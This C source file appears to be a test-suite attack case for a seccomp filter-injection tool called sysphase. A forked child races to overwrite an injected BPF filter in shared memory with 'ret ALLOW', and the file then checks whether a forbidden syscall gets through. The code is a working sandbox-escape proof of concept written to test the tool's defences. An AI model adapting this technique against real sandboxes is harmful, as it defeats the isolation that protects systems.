/* SPDX-License-Identifier: MIT */
/*
 * Attack: the filter written into memory another process shares.
 * sysphase writes struct sock_fprog and the program below the injecting
 * thread's red zone, and holds every task that shares the process's
 * memory meanwhile.  A MAP_SHARED mapping is shared with other processes
 * too, which no holding stops: the main thread moves its stack pointer
 * into an anonymous MAP_SHARED mapping it shares with a forked child and
 * makes its phase calls from there, while the child sweeps the mapping
 * for the fprog header and overwrites the program's first instruction
 * with `ret ALLOW`.  Filters stack, so a rewritten filter leaves the
 * thread with the breadth of the one before it: the probe, getppid() in
 * serving, is a call ready's filter allows and serving's does not, and
 * returns only when serving's filter was rewritten.  Then (--attack) the
 * payload.  Without --attack the same calls are made on the ordinary
 * stack, and the child sweeps as well (it finds nothing).
 */
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>

#include "attack.h"

#define SHARED_LEN (256 * 1024)

/* The first page: flags both processes see; the rest is the borrowed stack. */
struct board {
	volatile int sweeping, stop;
	volatile unsigned long found;
};

/* The child: sweeps the stack part for an injected fprog until told to stop. */
static void sweep(struct board *b, unsigned char *lo, unsigned char *hi)
{
	b->sweeping = 1;
	while (!b->stop) {
		b->found += rewrite_fprogs((uintptr_t)lo, (uintptr_t)hi);
	}
	_exit(0);
}

/* Syscall nr (no arguments) made with the stack pointer at top, or where it is when top is NULL. */
static long call_on(long nr, void *top)
{
	long ret;

	if (!top)
		return syscall(nr);
	__asm__ volatile("mov %%rsp, %%r12\n\t"
	                 "mov %2, %%rsp\n\t"
	                 "syscall\n\t"
	                 "mov %%r12, %%rsp"
	                 : "=a"(ret)
	                 : "a"(nr), "r"(top)
	                 : "rcx", "r11", "r12", "memory");
	return ret;
}

int main(int argc, char **argv)
{
	bool attack = attacking(argc, argv);
	unsigned char *shared =
	    mmap(NULL, SHARED_LEN, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct board *b = (struct board *)shared;
	void *top;
	pid_t child;

	if (shared == MAP_FAILED)
		return 2;
	child = fork();
	if (child < 0)
		return 2;
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		sweep(b, shared + 4096, shared + SHARED_LEN);
	}
	while (!b->sweeping)
		;
	/* Near the end, 16-aligned: the injection writes below it, inside the mapping. */
	top = attack ? shared + SHARED_LEN - 4096 : NULL;
	/* Each marker moves the phase; the call after it is where the filter goes in. */
	call_on(SYS_getppid, top);
	call_on(SYS_getuid, top);
	call_on(SYS_getpgrp, top);
	call_on(SYS_getuid, top);
	b->stop = 1;
	waitpid(child, NULL, 0);
	say("shared: found the program %lu times\n", b->found);
	if (attack) {
		syscall(SYS_getppid);
		say("shared: getppid returned in serving\n");
		payload("shared");
	}
	return 0;
}
